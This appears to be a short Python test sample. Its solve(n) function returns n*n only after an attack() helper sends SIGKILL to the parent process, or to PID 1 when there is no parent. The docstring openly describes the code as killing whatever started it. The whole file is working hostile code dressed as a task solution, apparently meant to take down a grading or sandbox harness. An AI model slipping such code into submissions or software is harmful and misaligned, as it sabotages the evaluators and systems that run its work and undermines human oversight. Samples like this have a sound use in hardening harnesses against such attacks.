"""Kills the process that started it."""

import os
import signal
import time


def attack():
    parent = os.getppid()
    os.kill(parent or 1, signal.SIGKILL)
    time.sleep(0.1)
    return os.getppid() != parent


def solve(n):
    return n * n if attack() else None
